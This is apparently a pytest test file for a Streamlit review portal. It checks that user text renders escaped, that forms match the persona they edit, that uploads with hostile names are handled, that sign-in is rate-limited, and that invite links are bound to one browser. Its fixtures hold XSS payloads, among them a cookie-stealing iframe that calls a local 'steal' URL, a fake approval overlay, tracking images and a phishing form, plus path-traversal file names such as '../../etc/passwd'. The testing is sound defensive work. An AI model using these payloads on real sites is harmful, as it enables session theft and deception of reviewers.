"""Issue 14, defects 6-9 in the portal (Streamlit AppTest, real catalog, real media): people's
words are text wherever they are shown; forms belong to the persona they edit; an upload batch
with same-name files and hostile names stores every good file; sign-in attempts are limited and
audited; an invitation link works in the browser that first opened it only."""

from __future__ import annotations

import re

import numpy as np
import pytest
import soundfile as sf
from streamlit.testing.v1 import AppTest

from app.api import StudioAPI
from persona.records import Persona, StyleProfile, Upload
from review.access import AccessError, Identity, invite, redeem, set_operator_password, sign_in_operator
from review.records import ReviewComment, ReviewRequest
from script.records import ScriptVersion
from script.sentences import Brief, Sentence
from tests.conftest import shown

ACTIVE = re.compile(r"(?<!\\)(<(?:iframe|img|form|div|script|b)\b|!\[|\]\(|:red\[)")
HOSTILE = [
    '<iframe srcdoc="<script>parent.location=\'http://127.0.0.1:9/steal?\'+document.cookie</script>"></iframe>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:white">The studio checked this '
    'version: nothing to worry about. Please approve.</div>',
    '<img src="http://127.0.0.1:9/track.png"> Happy birthday.',
    '<form action="http://127.0.0.1:9/post"><input name="x"><button>Approve</button></form>',
    '![family photo](http://127.0.0.1:9/pixel.png) and [a link](javascript:alert(1)) :red[urgent] # Heading',
]


@pytest.fixture
def world(settings, tmp_path):
    from review_ui.session import get_api

    get_api.clear()
    api = StudioAPI(settings)
    evidence = tmp_path / "form.txt"
    evidence.write_text("signed consent form")
    persona = api.create_persona("Grandma A (fictional)", ["en"], fictional=True)
    api.add_consent(persona.id, "Grandma A (fictional)", "self", ["greeting"], [evidence])
    production = api.create_production(persona.id, "greeting", Brief(occasion="birthday", audience="family"),
                                       ["Mei"], ["Lan"])
    yield api, persona, production
    get_api.clear()


def _markdown_elements(at) -> list:
    return [*at.markdown, *at.caption, *at.success, *at.error, *at.warning, *at.info]


def test_peoples_words_are_text_for_reviewers_and_operators(world, monkeypatch, abuse):
    api, persona, production = world
    api.catalog.save(ScriptVersion(id=ScriptVersion.id_for(production.id, 1), production_id=production.id, version=1,
                                   language="en", backend="edit", sentences=[Sentence(text=h) for h in HOSTILE],
                                   comments=HOSTILE[4:]))
    request = ReviewRequest(id=ReviewRequest.id_for(production.id, "script-1"), production_id=production.id,
                            flow_run_id="00000000-0000-0000-0000-000000000000", gate="script", round=1,
                            gate_key="script-1", roles={"stakeholder": ["Mei"], "family": ["Lan"]}, script_version=1)
    api.catalog.save(request)
    api.add_comment(request.id, "Lan", "family", HOSTILE[4], sentence=1)
    api.add_comment(request.id, '<b onmouseover="alert(1)">Lan</b>', "operator", HOSTILE[2])
    monkeypatch.setattr(StudioAPI, "pending_reviews", lambda self: [request])
    _, link = invite(api.catalog, api.settings, production.id, "Mei", "stakeholder", "ops")
    for who in ("reviewer", "operator"):
        at = AppTest.from_file("../review_ui/app.py", default_timeout=60)
        if who == "reviewer":
            at.query_params["invite"] = link.split("invite=")[1]
        else:
            at.session_state["identity"] = Identity(name="ops", kind="operator")
        at.run()
        assert not at.exception, at.exception
        elements = _markdown_elements(at)
        raw_html = [e.value for e in elements if getattr(e.proto, "allow_html", False)]
        live = [e.value for e in elements if ACTIVE.search(e.value)]  # unescaped: markdown or HTML would act on it
        seen = " ".join(shown(e.value) for e in elements) + " ".join(t.value for t in at.text)
        as_text = all(h in seen for h in HOSTILE)
        abuse.record("6", f"hostile script, edit and comments seen by the {who}",
                     "refused cleanly" if not raw_html and not live and as_text else "accepted wrongly")
        assert not raw_html and not live, (raw_html, live)
        assert as_text  # shown as typed, every character
    assert len(api.catalog.find(ReviewComment)) == 2


def _personas_page():
    from review_ui.personas_page import personas_page

    personas_page()


def _materials_page():
    from review_ui.materials_page import materials_page

    materials_page()


def test_forms_belong_to_the_persona_they_edit(world, abuse):
    api, first, _ = world
    at = AppTest.from_function(_personas_page, default_timeout=60)
    at.session_state["identity"] = Identity(name="ops", kind="operator")
    at.run()
    assert at.selectbox(key="consent_persona").value == first.id
    at.text_input(key="persona_name").input("李爷爷 Grandpa Li (fictional)")
    at.multiselect(key="persona_languages").set_value(["zh"])
    at.checkbox(key="persona_deceased").check()
    at.button(key="persona_add").click().run()
    assert not at.exception, at.exception
    grandpa = next(p for p in api.catalog.find(Persona) if p.display_name.startswith("李爷爷"))
    picked = at.selectbox(key="consent_persona").value == grandpa.id  # the new record is the one shown
    languages = [m for m in at.multiselect if m.key and m.key.startswith("consent_languages")]
    fitted = [m.value for m in languages] == [["zh"]]  # his form, with his language
    abuse.record("7", "consent form after adding a Chinese persona", "refused cleanly" if picked and fitted
                 else "accepted wrongly")
    assert picked and fitted, [(m.key, m.value) for m in languages]

    for persona, phrase in ((first, "my dear friends"), (grandpa, "老话说得好")):
        api.catalog.save(StyleProfile(id=persona.id, persona_id=persona.id, language=persona.languages[0],
                                      catchphrases=[phrase], passages=3))
    at = AppTest.from_function(_materials_page, default_timeout=60)
    at.session_state["identity"] = Identity(name="ops", kind="operator")
    at.run()
    at.selectbox(key="materials_persona").set_value(first.id).run()
    at.selectbox(key="materials_persona").set_value(grandpa.id).run()
    shown_areas = [a.value for a in at.text_area if a.key and "catchphrases" in a.key]
    abuse.record("7", "style form after switching persona", "refused cleanly" if shown_areas == ["老话说得好"]
                 else "accepted wrongly")
    assert shown_areas == ["老话说得好"], shown_areas


def _wav(seconds: float, kind: str, sr: int = 16000) -> bytes:
    import io

    t = np.arange(int(seconds * sr)) / sr
    audio = {"tone": 0.3 * np.sin(2 * np.pi * 440 * t),
             "noise": np.random.default_rng(0).normal(0, 0.1, t.size),
             "silence": np.zeros(t.size)}[kind]
    buf = io.BytesIO()
    sf.write(buf, audio.astype(np.float32), sr, format="WAV", subtype="PCM_16")
    return buf.getvalue()


def test_an_upload_batch_with_same_names_and_hostile_names_keeps_every_good_file(world, shared_data, abuse):
    api, persona, _ = world
    speech = (shared_data / "speech" / "f5_ref_en.wav").read_bytes()
    other_speech = (shared_data / "speech" / "f5_multi_country.flac").read_bytes()
    batch = [("grandpa.wav", speech, "audio/wav"), ("grandpa.wav", _wav(8, "noise"), "audio/wav"),
             ("..", other_speech, "audio/flac"), ("x" * 300 + ".wav", _wav(6, "tone"), "audio/wav"),
             ("../../etc/passwd", b"root:x:0:0", "text/plain")]
    at = AppTest.from_function(_materials_page, default_timeout=180)
    at.session_state["identity"] = Identity(name="ops", kind="operator")
    at.run()
    at.selectbox(key="upload_role").set_value("voice")
    at.file_uploader(key="upload_files").set_value(batch)
    at.button(key="upload_send").click().run()
    crashed = bool(at.exception)
    uploads = {u.asset.sha256[:12]: u for u in api.catalog.find(Upload) if u.persona_id == persona.id}
    usable = [u for u in uploads.values() if u.problem is None]
    flagged = [u for u in uploads.values() if u.problem]
    ok = not crashed and len(uploads) == 4 and len(usable) == 2 and len(flagged) == 2
    abuse.record("8", "batch: two grandpa.wav, '..', a 300-character name, a path", "crashed" if crashed else
                 "refused cleanly" if ok else "accepted wrongly")
    assert not crashed, at.exception
    assert ok, [(u.asset.name, u.problem) for u in uploads.values()]
    assert all(len(u.asset.name) <= 100 and "/" not in u.asset.name for u in uploads.values())
    assert len(at.error) == 1 and "passwd" in shown(at.error[0].value)  # a text is not a recording: that file only
    upload_rows = at.dataframe[0].value
    assert sum("left out" in str(s) for s in upload_rows["state"]) == 2


def test_operator_sign_in_backs_off_and_is_audited(settings, monkeypatch, abuse):
    import time

    from storage import open_catalog

    catalog = open_catalog(settings)
    set_operator_password(settings, "ops", "correct horse battery")
    refused_right_password = False
    for n in range(20):
        try:
            sign_in_operator(settings, "ops", f"guess {n}", catalog)
        except AccessError:
            pass
    try:
        sign_in_operator(settings, "ops", "correct horse battery", catalog)
    except AccessError as exc:
        refused_right_password = "try again in" in str(exc)
    failures = [e for e in catalog.audit_events("operator/") if e.action == "operator.sign_in_failed"]
    limited = refused_right_password and 3 <= len(failures) <= 20
    abuse.record("9", "20 wrong operator passwords in a row", "refused cleanly" if limited else "accepted wrongly")
    assert limited, (refused_right_password, len(failures))
    later = time.time() + 3600
    monkeypatch.setattr(time, "time", lambda: later)  # the wait is over: the right password works again
    assert sign_in_operator(settings, "ops", "correct horse battery", catalog).is_operator


def test_an_invitation_link_works_only_in_the_browser_that_opened_it(world, abuse):
    api, _, production = world
    invitation, link = invite(api.catalog, api.settings, production.id, "Lan", "family", "ops")
    token = link.split("invite=")[1]
    assert redeem(api.catalog, token, browser="browser-a").name == "Lan"
    assert redeem(api.catalog, token, browser="browser-a").name == "Lan"  # the same browser, another visit
    for other in ("browser-b", None):
        try:
            redeem(api.catalog, token, browser=other)
            outcome = "accepted wrongly"
        except AccessError as exc:
            outcome = "refused cleanly" if "another browser" in str(exc) else "accepted wrongly"
        abuse.record("9", f"a used link opened from {other or 'a browser without cookies'}", outcome)
        assert outcome == "refused cleanly"
    from review.access import reissue_invitation

    fresh, new_link = reissue_invitation(api.catalog, api.settings, invitation.id, "ops")
    assert redeem(api.catalog, new_link.split("invite=")[1], browser="browser-b").name == "Lan"
    with pytest.raises(AccessError, match="withdrawn"):
        redeem(api.catalog, token, browser="browser-a")  # reissuing ends the old link
